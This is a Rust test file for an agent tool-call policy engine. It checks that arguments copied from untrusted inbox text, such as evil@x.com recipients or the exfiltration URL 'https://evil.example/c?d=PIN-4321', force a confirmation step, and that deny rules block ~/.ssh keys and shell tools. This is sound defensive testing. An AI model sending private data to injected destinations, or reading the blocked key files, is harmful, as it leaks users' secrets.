//! Table tests: every rule, floor and precedence, with exact decisions and reason kinds.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::borrow::Cow;
use std::path::Path;
use std::sync::Arc;

use serde_json::{Value, json};
use support::*;
use warden_policy::{
    Decision, LexicalPaths, PathResolver, Policy, PolicyError, Provenance, ReasonKind, SourceId,
    ToolFacts, Trust, Verdict,
};

use Decision::{Allow, Ask, Deny};
use ReasonKind::{Default as ByDefault, PrivateEgress, TaintedWrite, VerbatimArgument};

const INBOX: ReasonKind = VerbatimArgument {
    source: SourceId(0),
};

fn rule(index: usize) -> ReasonKind {
    ReasonKind::Rule { index }
}

struct Case {
    name: &'static str,
    rules: &'static str,
    tool: ToolFacts,
    args: Value,
    context: Provenance,
    want: Decision,
    kinds: Vec<ReasonKind>,
}

fn run(cases: Vec<Case>) {
    let mut failures = Vec::new();
    for case in cases {
        let policy = policy(case.rules);
        let verdict = policy.decide(&case.tool, &case.args, &case.context);
        let kinds: Vec<ReasonKind> = verdict.kinds().collect();
        if verdict.decision != case.want || kinds != case.kinds {
            failures.push(format!(
                "{}: want {} {:?}, got {} {:?}\n    {verdict}",
                case.name, case.want, case.kinds, verdict.decision, kinds
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

fn decide(rules: &str, tool: &ToolFacts, args: Value, context: &Provenance) -> Verdict {
    policy(rules).decide(tool, &args, context)
}

#[test]
fn defaults_trust_and_hints() {
    let declared = r#"
        [policy.servers.calc]
        read_only = true
        open_world = false
    "#;
    let calc = policy(declared).tool_facts("calc", "add", "calc__add", hints(None, None));
    run(vec![
        Case {
            name: "trusted read-only closed, clean",
            rules: "",
            tool: trusted_reader("fs__read"),
            args: json!({"path": "/tmp/x"}),
            context: Provenance::new(),
            want: Allow,
            kinds: vec![ByDefault],
        },
        Case {
            name: "trusted read-only, openWorldHint unsaid, clean",
            rules: "",
            tool: tool("web__search", Trust::Trusted, hints(Some(true), None)),
            args: json!({"q": "rust"}),
            context: Provenance::new(),
            want: Allow,
            kinds: vec![ByDefault],
        },
        Case {
            name: "trusted, no hints: may write",
            rules: "",
            tool: tool("fs__touch", Trust::Trusted, hints(None, None)),
            args: json!({}),
            context: Provenance::new(),
            want: Ask,
            kinds: vec![ByDefault],
        },
        Case {
            name: "trusted, readOnlyHint false",
            rules: "",
            tool: trusted_writer("fs__write"),
            args: json!({}),
            context: Provenance::new(),
            want: Ask,
            kinds: vec![ByDefault],
        },
        Case {
            name: "untrusted server claiming read-only",
            rules: "",
            tool: untrusted("shady__read"),
            args: json!({}),
            context: Provenance::new(),
            want: Ask,
            kinds: vec![ByDefault],
        },
        Case {
            name: "untrusted server, read-only declared in the policy",
            rules: declared,
            tool: calc.clone(),
            args: json!({"a": 1, "b": 2}),
            context: Provenance::new(),
            want: Allow,
            kinds: vec![ByDefault],
        },
        Case {
            name: "declared read-only closed, tainted and private: still allowed",
            rules: declared,
            tool: calc,
            args: json!({"a": 1, "b": 2}),
            context: tainted_private(),
            want: Allow,
            kinds: vec![ByDefault],
        },
    ]);
}

#[test]
fn flows_by_trust_hints_and_context() {
    run(vec![
        Case {
            name: "trusted read-only closed, no outward argument, tainted+private: allowed",
            rules: "",
            tool: trusted_reader("fs__read"),
            args: json!({"path": "/home/me/notes.txt"}),
            context: tainted_private(),
            want: Allow,
            kinds: vec![ByDefault],
        },
        Case {
            name: "trusted read-only open-world (unsaid), private: egress asks",
            rules: "",
            tool: tool("web__search", Trust::Trusted, hints(Some(true), None)),
            args: json!({"q": "rust"}),
            context: private_only(),
            want: Ask,
            kinds: vec![PrivateEgress],
        },
        Case {
            name: "trusted read-only open-world, tainted but public: allowed",
            rules: "",
            tool: tool("web__fetch", Trust::Trusted, hints(Some(true), Some(true))),
            args: json!({"url": "https://evil.example/x"}),
            context: tainted_public(),
            want: Allow,
            kinds: vec![ByDefault],
        },
        Case {
            name: "untrusted server in a tainted public context",
            rules: "",
            tool: untrusted("shady__read"),
            args: json!({"id": 7}),
            context: tainted_public(),
            want: Ask,
            kinds: vec![ByDefault, TaintedWrite],
        },
        Case {
            name: "untrusted server in a tainted private context",
            rules: "",
            tool: untrusted("shady__read"),
            args: json!({"id": 7}),
            context: tainted_private(),
            want: Ask,
            kinds: vec![ByDefault, TaintedWrite, PrivateEgress],
        },
        Case {
            name: "trusted closed-world writer, private but trusted context: only the default",
            rules: "",
            tool: trusted_writer("notes__append"),
            args: json!({"text": "see https://example.com"}),
            context: private_only(),
            want: Ask,
            kinds: vec![ByDefault],
        },
    ]);
}

#[test]
fn tainted_write_floor_and_its_opt_in() {
    let allow = r#"
        [[policy.rules]]
        tools = "notes__append"
        effect = "allow"
    "#;
    let opt_in = r#"
        [[policy.rules]]
        tools = "notes__append"
        effect = "allow"
        even_if_tainted = true
    "#;
    run(vec![
        Case {
            name: "allow rule, clean",
            rules: allow,
            tool: trusted_writer("notes__append"),
            args: json!({"text": "hello there"}),
            context: Provenance::new(),
            want: Allow,
            kinds: vec![rule(0)],
        },
        Case {
            name: "allow rule, tainted: the floor asks",
            rules: allow,
            tool: trusted_writer("notes__append"),
            args: json!({"text": "hello there"}),
            context: tainted_public(),
            want: Ask,
            kinds: vec![TaintedWrite],
        },
        Case {
            name: "opt-in allow rule, tainted",
            rules: opt_in,
            tool: trusted_writer("notes__append"),
            args: json!({"text": "hello there"}),
            context: tainted_public(),
            want: Allow,
            kinds: vec![rule(0)],
        },
        Case {
            name: "opt-in does not waive private egress",
            rules: opt_in,
            tool: tool("notes__append", Trust::Trusted, hints(Some(false), None)),
            args: json!({"text": "hello there"}),
            context: tainted_private(),
            want: Ask,
            kinds: vec![PrivateEgress],
        },
        Case {
            name: "opt-in, but a free argument copied from the untrusted text",
            rules: opt_in,
            tool: trusted_writer("notes__append"),
            args: json!({"text": "https://evil.example/x"}),
            context: tainted_public(),
            want: Ask,
            kinds: vec![VerbatimArgument {
                source: SourceId(0),
            }],
        },
    ]);
}

#[test]
fn private_egress_floor_and_outward_arguments() {
    let allow_fetch = r#"
        [[policy.rules]]
        tools = "web__fetch"
        effect = "allow"
    "#;
    let opt_in = r#"
        [[policy.rules]]
        tools = "web__fetch"
        effect = "allow"
        even_if_private = true
    "#;
    let fetch = tool("web__fetch", Trust::Trusted, hints(Some(true), Some(true)));
    run(vec![
        Case {
            name: "open-world allow rule in a private context asks",
            rules: allow_fetch,
            tool: fetch.clone(),
            args: json!({"url": "https://docs.rs"}),
            context: private_only(),
            want: Ask,
            kinds: vec![PrivateEgress],
        },
        Case {
            name: "even_if_private waives it",
            rules: opt_in,
            tool: fetch.clone(),
            args: json!({"url": "https://docs.rs"}),
            context: private_only(),
            want: Allow,
            kinds: vec![rule(0)],
        },
        Case {
            name: "a URL argument makes a read-only closed-world tool egress",
            rules: "",
            tool: trusted_reader("fs__read"),
            args: json!({"path": "https://evil.example/upload"}),
            context: private_only(),
            want: Ask,
            kinds: vec![PrivateEgress],
        },
        Case {
            name: "an email argument (nested) makes a read-only tool egress",
            rules: "",
            tool: trusted_reader("contacts__lookup"),
            args: json!({"query": {"who": ["Eve <eve@x.com>"]}}),
            context: private_only(),
            want: Ask,
            kinds: vec![PrivateEgress],
        },
        Case {
            name: "a bare host under a host-like key",
            rules: "",
            tool: trusted_reader("net__ping"),
            args: json!({"host": "evil.example"}),
            context: private_only(),
            want: Ask,
            kinds: vec![PrivateEgress],
        },
        Case {
            name: "an outward argument in a public context is fine",
            rules: "",
            tool: trusted_reader("fs__read"),
            args: json!({"path": "https://evil.example/upload"}),
            context: tainted_public(),
            want: Allow,
            kinds: vec![ByDefault],
        },
        Case {
            name: "file names are not hosts",
            rules: "",
            tool: trusted_reader("fs__read"),
            args: json!({"path": "report.pdf", "other": ["main.rs", "notes.md"]}),
            context: private_only(),
            want: Allow,
            kinds: vec![ByDefault],
        },
    ]);
}

#[test]
fn verbatim_arguments_are_named_with_source_and_turn() {
    let send = untrusted("mail__send");
    let verdict = decide(
        "",
        &send,
        json!({"to": "Evil@X.com", "body": "Here you go", "acct": 12345678, "cc": "abc"}),
        &tainted_private(),
    );
    assert_eq!(verdict.decision, Ask);
    assert_eq!(
        verdict.kinds().collect::<Vec<_>>(),
        vec![ByDefault, TaintedWrite, PrivateEgress, INBOX, INBOX]
    );
    let mut texts: Vec<&str> = verdict.reasons.iter().map(|r| &*r.text).collect();
    // The verbatim reasons follow the order of the argument map; compare them sorted.
    texts[3..].sort_unstable();
    assert_eq!(
        texts[1],
        "mail__send may write (its server is untrusted, so its annotations are not believed) \
         while the context holds untrusted content: text from inbox__list_messages, untrusted, \
         turn 2"
    );
    assert_eq!(
        texts[2],
        "mail__send may reach outside (its server is untrusted, so its annotations are not \
         believed) while the context holds private data: data from inbox__list_messages, \
         private, turn 2"
    );
    assert_eq!(
        texts[3],
        "argument /acct = 12345678 appears in text from inbox__list_messages (turn 2)"
    );
    assert_eq!(
        texts[4],
        "argument /to = \"Evil@X.com\" appears in text from inbox__list_messages (turn 2)"
    );
}

#[test]
fn verbatim_nested_values_and_the_most_recent_source() {
    let mut context = tainted_private();
    let web = tool("web__fetch", Trust::Trusted, hints(Some(true), Some(true)));
    context.add_result(&web, 4, "mirror: evil@x.com");
    let verdict = decide(
        "",
        &untrusted("mail__send"),
        json!({"recipients": [{"address": "evil@x.com"}]}),
        &context,
    );
    let last = verdict.reasons.last().map(|r| (r.kind, r.text.to_string()));
    assert_eq!(
        last,
        Some((
            VerbatimArgument {
                source: SourceId(1)
            },
            "argument /recipients/0/address = \"evil@x.com\" appears in text from web__fetch \
             (turn 4)"
                .to_owned()
        ))
    );
}

#[test]
fn opt_in_rules_pin_what_they_constrain() {
    // Email a summary of the inbox to myself: allowed even though the inbox is untrusted and
    // private, because the destination is pinned by the rule.
    let to_me = r#"
        [[policy.rules]]
        tools = "mail__send"
        effect = "allow"
        even_if_tainted = true
        even_if_private = true
        when = [{ arg = "/to", matches = "(?i)billing@partner\\.example" }]
    "#;
    let free = r#"
        [[policy.rules]]
        tools = "mail__send"
        effect = "allow"
        even_if_tainted = true
        even_if_private = true
    "#;
    let send = tool("mail__send", Trust::Trusted, hints(Some(false), Some(true)));
    run(vec![
        Case {
            name: "pinned destination that appears in the inbox",
            rules: to_me,
            tool: send.clone(),
            args: json!({"to": "billing@partner.example", "body": "summary"}),
            context: tainted_private(),
            want: Allow,
            kinds: vec![rule(0)],
        },
        Case {
            name: "pinned destination, free body copied from the inbox",
            rules: to_me,
            tool: send.clone(),
            args: json!({"to": "billing@partner.example", "body": "evil@x.com"}),
            context: tainted_private(),
            want: Ask,
            kinds: vec![INBOX],
        },
        Case {
            name: "unpinned destination injected by the inbox",
            rules: free,
            tool: send.clone(),
            args: json!({"to": "evil@x.com", "body": "see attached"}),
            context: tainted_private(),
            want: Ask,
            kinds: vec![INBOX],
        },
        Case {
            name: "unpinned destination the inbox never mentioned",
            rules: free,
            tool: send.clone(),
            args: json!({"to": "me@mine.org", "body": "summary"}),
            context: tainted_private(),
            want: Allow,
            kinds: vec![rule(0)],
        },
        Case {
            name: "the pinned rule does not match an injected destination",
            rules: to_me,
            tool: send,
            args: json!({"to": "evil@x.com", "body": "summary"}),
            context: tainted_private(),
            want: Ask,
            kinds: vec![ByDefault, TaintedWrite, PrivateEgress, INBOX],
        },
    ]);
    let verdict = decide(
        free,
        &trusted_writer("mail__send"),
        json!({"to": "evil@x.com"}),
        &tainted_private(),
    );
    assert_eq!(
        &*verdict.reasons[0].text,
        "argument /to = \"evil@x.com\" appears in text from inbox__list_messages (turn 2); no \
         opt-in allow rule constrains it"
    );
}

#[test]
fn verbatim_check_that_cannot_complete_asks_for_opt_in_rules() {
    let free = r#"
        [[policy.rules]]
        tools = "notes__append"
        effect = "allow"
        even_if_tainted = true
    "#;
    let many: serde_json::Map<String, Value> = (0..100)
        .map(|i| (format!("k{i:03}"), json!(format!("value number {i}"))))
        .collect();
    let verdict = decide(
        free,
        &trusted_writer("notes__append"),
        Value::Object(many),
        &tainted_public(),
    );
    assert_eq!(verdict.decision, Ask);
    assert_eq!(
        verdict.kinds().collect::<Vec<_>>(),
        vec![ReasonKind::VerbatimUnchecked]
    );
}

#[test]
fn precedence_deny_ask_allow_and_reasons_of_the_winner_only() {
    let rules = r#"
        [[policy.rules]]
        tools = "github__*"
        effect = "allow"
        even_if_tainted = true
        even_if_private = true

        [[policy.rules]]
        tools = "github__delete_*"
        effect = "deny"
        note = "never delete"

        [[policy.rules]]
        tools = ["github__create_*", "github__delete_repo"]
        effect = "ask"

        [[policy.rules]]
        tools = "github__create_issue"
        effect = "allow"
    "#;
    let gh = |name| trusted_writer(name);
    run(vec![
        Case {
            name: "deny beats ask and allow",
            rules,
            tool: gh("github__delete_repo"),
            args: json!({}),
            context: Provenance::new(),
            want: Deny,
            kinds: vec![rule(1)],
        },
        Case {
            name: "deny in a tainted context has no flow reasons",
            rules,
            tool: gh("github__delete_repo"),
            args: json!({}),
            context: tainted_private(),
            want: Deny,
            kinds: vec![rule(1)],
        },
        Case {
            name: "ask beats allow (both allow rules are left out)",
            rules,
            tool: gh("github__create_issue"),
            args: json!({}),
            context: Provenance::new(),
            want: Ask,
            kinds: vec![rule(2)],
        },
        Case {
            name: "ask rule in a tainted context names the floor too",
            rules,
            tool: gh("github__create_issue"),
            args: json!({}),
            context: tainted_public(),
            want: Ask,
            kinds: vec![rule(2), TaintedWrite],
        },
        Case {
            name: "one allow rule",
            rules,
            tool: gh("github__list_issues"),
            args: json!({}),
            context: Provenance::new(),
            want: Allow,
            kinds: vec![rule(0)],
        },
    ]);
    let verdict = decide(
        rules,
        &gh("github__delete_x"),
        json!({}),
        &Provenance::new(),
    );
    assert_eq!(
        verdict.to_string(),
        "deny: policy.rules[1] (github__delete_*) denies: never delete"
    );
    let two_allows = r#"
        [[policy.rules]]
        tools = "github__create_issue"
        effect = "allow"
        [[policy.rules]]
        tools = "github__*"
        effect = "allow"
    "#;
    let verdict = decide(
        two_allows,
        &gh("github__create_issue"),
        json!({}),
        &Provenance::new(),
    );
    assert_eq!(verdict.kinds().collect::<Vec<_>>(), vec![rule(0), rule(1)]);
}

#[test]
fn hide_removes_from_listing_and_denies() {
    let rules = r#"
        [[policy.rules]]
        tools = "shell__*"
        effect = "allow"
        even_if_tainted = true

        [[policy.rules]]
        tools = ["shell__exec", "shell__sudo*"]
        effect = "hide"

        [[policy.rules]]
        tools = "shell__exec"
        effect = "deny"
    "#;
    let policy = policy(rules);
    assert!(policy.is_hidden("shell__exec"));
    assert!(policy.is_hidden("shell__sudo_run"));
    assert!(!policy.is_hidden("shell__ls"));
    assert!(!policy.is_hidden("other__exec"));
    let verdict = policy.decide(
        &trusted_reader("shell__exec"),
        &json!({}),
        &Provenance::new(),
    );
    assert_eq!(verdict.decision, Deny);
    assert_eq!(
        verdict.kinds().collect::<Vec<_>>(),
        vec![ReasonKind::HiddenTool { rule: 1 }]
    );
    assert_eq!(
        &*verdict.reasons[0].text,
        "hidden by policy.rules[1] (shell__exec, shell__sudo*)"
    );
    let verdict = policy.decide(&trusted_reader("shell__ls"), &json!({}), &Provenance::new());
    assert_eq!(verdict.decision, Allow);
}

#[test]
fn globs() {
    let rules = r#"
        [[policy.rules]]
        tools = "github__*"
        effect = "allow"
        [[policy.rules]]
        tools = "*__delete_*"
        effect = "deny"
        [[policy.rules]]
        tools = "fs__read?"
        effect = "deny"
    "#;
    let p = policy(rules);
    let d = |name: &str| {
        p.decide(&trusted_writer(name), &json!({}), &Provenance::new())
            .decision
    };
    assert_eq!(d("github__create_issue"), Allow);
    assert_eq!(d("gitlab__create_issue"), Ask);
    assert_eq!(d("github__delete_repo"), Deny);
    assert_eq!(d("fs__delete_file"), Deny);
    assert_eq!(d("fs__reads"), Deny);
    assert_eq!(d("fs__read"), Ask);
    assert_eq!(d("fs__readme"), Ask);
    assert_eq!(d("GITHUB__create_issue"), Ask);
}

#[test]
fn equals_constraints() {
    let rules = r#"
        [[policy.rules]]
        tools = "github__*"
        effect = "allow"
        when = [{ arg = "/repo", equals = "me/warden" }, { arg = "/opts/limit", equals = 10 }]
    "#;
    let p = policy(rules);
    let d = |args: Value| {
        p.decide(
            &trusted_writer("github__create_issue"),
            &args,
            &Provenance::new(),
        )
        .decision
    };
    assert_eq!(
        d(json!({"repo": "me/warden", "opts": {"limit": 10}})),
        Allow
    );
    assert_eq!(
        d(json!({"repo": "me/warden", "opts": {"limit": 10.0}})),
        Allow
    );
    assert_eq!(d(json!({"repo": "me/warden", "opts": {"limit": 11}})), Ask);
    assert_eq!(
        d(json!({"repo": "evil/warden", "opts": {"limit": 10}})),
        Ask
    );
    assert_eq!(
        d(json!({"repo": "me/warden"})),
        Ask,
        "missing argument: no match"
    );
    assert_eq!(
        d(json!({"repo": ["me/warden"], "opts": {"limit": 10}})),
        Allow
    );
    assert_eq!(
        d(json!({"repo": ["me/warden", "evil/x"], "opts": {"limit": 10}})),
        Ask
    );
}

#[test]
fn regex_constraints() {
    let rules = r#"
        [[policy.rules]]
        tools = "mail__send"
        effect = "allow"
        when = [{ arg = "/to", matches = '[a-z.]+@mine\.org' }]

        [[policy.rules]]
        tools = "mail__send"
        effect = "deny"
        when = [{ arg = "/to", matches = '(?i).*@evil\.com' }]
    "#;
    let p = policy(rules);
    let d = |args: Value| {
        p.decide(&trusted_writer("mail__send"), &args, &Provenance::new())
            .decision
    };
    assert_eq!(d(json!({"to": "me@mine.org"})), Allow);
    assert_eq!(d(json!({"to": "me@mine.org.evil.net"})), Ask, "whole value");
    assert_eq!(d(json!({"to": "x me@mine.org"})), Ask, "whole value");
    assert_eq!(d(json!({"to": ["a@mine.org", "b@mine.org"]})), Allow);
    assert_eq!(d(json!({"to": ["a@mine.org", "b@other.org"]})), Ask);
    assert_eq!(d(json!({"to": ["a@mine.org", "X@EVIL.com"]})), Deny);
    assert_eq!(d(json!({"to": "x@evil.com"})), Deny);
    // A value the regex cannot judge: the allow rule does not apply, the deny rule does.
    assert_eq!(d(json!({"to": {"address": "me@mine.org"}})), Deny);
}

#[test]
fn under_constraints_normalise_and_refuse_escapes() {
    let rules = r#"
        [[policy.rules]]
        tools = "fs__write"
        effect = "allow"
        when = [{ arg = "/path", under = "/work/scratch/" }]

        [[policy.rules]]
        tools = "fs__*"
        effect = "deny"
        when = [{ arg = "/path", under = "/home/me/.ssh" }]
    "#;
    let p = policy(rules);
    let d = |path: Value| {
        p.decide(
            &trusted_writer("fs__write"),
            &json!({ "path": path }),
            &Provenance::new(),
        )
        .decision
    };
    assert_eq!(d(json!("/work/scratch/a.txt")), Allow);
    assert_eq!(d(json!("/work/scratch")), Allow);
    assert_eq!(d(json!("/work/./scratch//b/../a.txt")), Allow);
    assert_eq!(d(json!("/work/scratch/../secret")), Ask, "escapes the root");
    assert_eq!(
        d(json!("/work/scratch2/a.txt")),
        Ask,
        "a sibling, not under"
    );
    assert_eq!(
        d(json!("/../work/scratch/a")),
        Deny,
        "climbs above /: unknown"
    );
    assert_eq!(
        d(json!("a.txt")),
        Deny,
        "relative: unknown, so the deny rule applies"
    );
    assert_eq!(d(json!("/home/me/.ssh/id_ed25519")), Deny);
    assert_eq!(d(json!("/home/me/notes/../.ssh/id_ed25519")), Deny);
    assert_eq!(d(json!("/home/me/notes")), Ask);
    assert_eq!(d(json!(42)), Deny, "not a path: unknown");
}

/// Resolves `/link` to `/home/me/.ssh` and refuses `/broken`, like a canonicalising
/// resolver would on a file system with that symlink.
#[derive(Debug)]
struct FakeLinks;

impl PathResolver for FakeLinks {
    fn resolve<'p>(&self, path: &'p Path) -> Option<Cow<'p, Path>> {
        if path.starts_with("/broken") {
            return None;
        }
        match path.strip_prefix("/link") {
            Ok(rest) => Some(Cow::Owned(Path::new("/home/me/.ssh").join(rest))),
            Err(_) => LexicalPaths.resolve(path),
        }
    }
}

#[test]
fn under_constraints_go_through_the_resolver() {
    let config = config(
        r#"
        [[policy.rules]]
        tools = "fs__read"
        effect = "allow"
        when = [{ arg = "/path", under = "/" }]

        [[policy.rules]]
        tools = "fs__read"
        effect = "deny"
        when = [{ arg = "/path", under = "/home/me/.ssh" }]
    "#,
    );
    let p = Policy::compile_with(&config, Arc::new(FakeLinks)).unwrap();
    let d = |path: &str| {
        p.decide(
            &trusted_writer("fs__read"),
            &json!({ "path": path }),
            &Provenance::new(),
        )
        .decision
    };
    assert_eq!(d("/tmp/x"), Allow);
    assert_eq!(d("/link/id_rsa"), Deny);
    assert_eq!(d("/broken/x"), Deny, "unresolvable: the deny rule applies");
    let lexical = Policy::compile(&config).unwrap();
    let verdict = lexical.decide(
        &trusted_writer("fs__read"),
        &json!({"path": "/link/id_rsa"}),
        &Provenance::new(),
    );
    assert_eq!(
        verdict.decision, Allow,
        "lexically, /link is not under .ssh"
    );
}

#[test]
fn compile_errors_name_the_rule_and_the_problem() {
    let cases = [
        (r#"tools = []"#, "`tools` is an empty list"),
        (r#"tools = "github/x""#, "holds '/'"),
        (
            r#"tools = "x__*", effect = "hide", when = [{ arg = "/a", equals = 1 }]"#,
            "hide rule cannot have `when`",
        ),
        (
            r#"tools = "x__*", effect = "deny", even_if_tainted = true"#,
            "`even_if_tainted` only applies to allow rules",
        ),
        (
            r#"tools = "x__*", effect = "ask", even_if_private = true"#,
            "`even_if_private` only applies to allow rules",
        ),
        (
            r#"tools = "x__*", when = [{ arg = "/a" }]"#,
            "when[0]: argument \"/a\" has no test",
        ),
        (
            r#"tools = "x__*", when = [{ arg = "/a", equals = 1, matches = "x" }]"#,
            "more than one test",
        ),
        (
            r#"tools = "x__*", when = [{ arg = "/a", equals = 1 }, { arg = "a", equals = 1 }]"#,
            "when[1]: argument pointer \"a\" must start with '/'",
        ),
        (
            r#"tools = "x__*", when = [{ arg = "/a", matches = "(" }]"#,
            "regular expression \"(\"",
        ),
        (
            r#"tools = "x__*", when = [{ arg = "/a", under = "~/x" }]"#,
            "must be an absolute path",
        ),
        (
            r#"tools = "x__*", when = [{ arg = "/a", under = "/.." }]"#,
            "climbs above",
        ),
    ];
    for (body, want) in cases {
        let mut text = String::from("[[policy.rules]]\ntools = \"ok__*\"\neffect = \"allow\"\n");
        text.push_str("[[policy.rules]]\n");
        let body = if body.contains("effect") {
            body.to_owned()
        } else {
            format!("{body}, effect = \"allow\"")
        };
        for part in split_top_level(&body) {
            text.push_str(&part);
            text.push('\n');
        }
        let err = Policy::compile(&config(&text)).err();
        let Some(err @ PolicyError::Rule { index: 1, .. }) = err else {
            panic!("{body}: want an error for rule 1, got {err:?}");
        };
        let shown = err.to_string();
        assert!(
            shown.starts_with("policy.rules[1]: ") && shown.contains(want),
            "{body}: {shown}"
        );
    }
    // Unknown fields are refused by the TOML shape itself.
    let bad = toml::from_str::<warden_policy::PolicyConfig>(
        "[[rules]]\ntools = \"x\"\neffect = \"allow\"\neven_if_taint = true\n",
    );
    assert!(bad.is_err());
}

/// Splits `a = 1, b = [x, y], c = { d = 1 }` at top-level commas (test helper).
fn split_top_level(s: &str) -> Vec<String> {
    let mut parts = Vec::new();
    let mut depth = 0i32;
    let mut in_str = false;
    let mut current = String::new();
    for c in s.chars() {
        match c {
            '"' => in_str = !in_str,
            '[' | '{' if !in_str => depth += 1,
            ']' | '}' if !in_str => depth -= 1,
            ',' if !in_str && depth == 0 => {
                parts.push(current.trim().to_owned());
                current.clear();
                continue;
            }
            _ => {}
        }
        current.push(c);
    }
    parts.push(current.trim().to_owned());
    parts
}

#[test]
fn tool_facts_apply_server_and_tool_settings() {
    let p = policy(
        r#"
        [policy.servers.github]
        trust = "trusted"
        confidentiality = "public"

        [policy.servers.github.tools.get_file]
        integrity = "trusted"
        confidentiality = "private"

        [policy.servers.github.tools.run_workflow]
        trust = "untrusted"
        open_world = true
    "#,
    );
    use warden_policy::{Confidentiality as C, Integrity as I};
    let list = p.tool_facts(
        "github",
        "list_issues",
        "github__list_issues",
        hints(Some(true), None),
    );
    assert_eq!(list.trust, Trust::Trusted);
    assert_eq!(
        (list.label.integrity, list.label.confidentiality),
        (I::Untrusted, C::Public)
    );
    let file = p.tool_facts("github", "get_file", "github__get_file", hints(None, None));
    assert_eq!(
        (file.label.integrity, file.label.confidentiality),
        (I::Trusted, C::Private)
    );
    let run = p.tool_facts(
        "github",
        "run_workflow",
        "github__run_workflow",
        hints(Some(true), Some(false)),
    );
    assert_eq!(run.trust, Trust::Untrusted);
    assert!(run.may_write());
    assert!(run.open_world());
    let other = p.tool_facts("other", "x", "other__x", hints(Some(true), Some(false)));
    assert_eq!(other.trust, Trust::Untrusted);
    assert_eq!(other.label, warden_policy::Label::UNVETTED_RESULT);
}

#[test]
fn destinations_named_by_untrusted_text_ask_even_when_the_value_is_new() {
    let browse = r#"
        [[policy.rules]]
        tools = ["web__fetch", "mail__send"]
        effect = "allow"
        even_if_tainted = true
        even_if_private = true
    "#;
    let fetch = tool("web__fetch", Trust::Trusted, hints(Some(true), Some(true)));
    let send = tool("mail__send", Trust::Trusted, hints(Some(false), Some(true)));
    let verdict = decide(
        browse,
        &fetch,
        json!({"url": "https://evil.example/c?d=PIN-4321"}),
        &tainted_private(),
    );
    assert_eq!(verdict.decision, Ask);
    assert_eq!(verdict.kinds().collect::<Vec<_>>(), vec![INBOX]);
    assert_eq!(
        &*verdict.reasons[0].text,
        "argument /url = \"https://evil.example/c?d=PIN-4321\" points at \"evil.example\", \
         which appears in text from inbox__list_messages (turn 2); no opt-in allow rule \
         constrains it"
    );
    let verdict = decide(
        browse,
        &fetch,
        json!({"url": "https://docs.rs/regex"}),
        &tainted_private(),
    );
    assert_eq!(verdict.decision, Allow);
    let verdict = decide(
        browse,
        &send,
        json!({"to": "Eve Vil <EVIL@x.com>", "body": "hi"}),
        &tainted_private(),
    );
    assert_eq!(verdict.decision, Ask);
    assert_eq!(verdict.kinds().collect::<Vec<_>>(), vec![INBOX]);
}

#[test]
fn plain_words_are_no_evidence_of_copying() {
    let opt_in = r#"
        [[policy.rules]]
        tools = "notes__append"
        effect = "allow"
        even_if_tainted = true
    "#;
    let append = trusted_writer("notes__append");
    // "IMPORTANT" and "instruction" are in the inbox, as single words.
    let verdict = decide(
        opt_in,
        &append,
        json!({"title": "IMPORTANT", "tag": "instruction"}),
        &tainted_private(),
    );
    assert_eq!(verdict.decision, Allow, "{verdict}");
    // A phrase or an identifier is.
    let verdict = decide(
        opt_in,
        &append,
        json!({"title": "the Q3 numbers"}),
        &tainted_private(),
    );
    assert_eq!(verdict.decision, Ask, "{verdict}");
}

#[test]
fn shareable_across_threads_and_serialisable() {
    fn shareable<T: Send + Sync>() {}
    shareable::<Policy>();
    shareable::<Provenance>();
    shareable::<Verdict>();
    let config = config(
        r#"
        [policy.servers.gh]
        trust = "trusted"
        [[policy.rules]]
        tools = ["gh__*"]
        effect = "allow"
        when = [{ arg = "/repo", equals = "me/warden" }]
    "#,
    );
    let round_trip: warden_policy::PolicyConfig =
        serde_json::from_value(serde_json::to_value(&config).unwrap()).unwrap();
    assert_eq!(round_trip, config);
    assert_eq!(serde_json::to_value(Decision::Ask).unwrap(), json!("ask"));
}
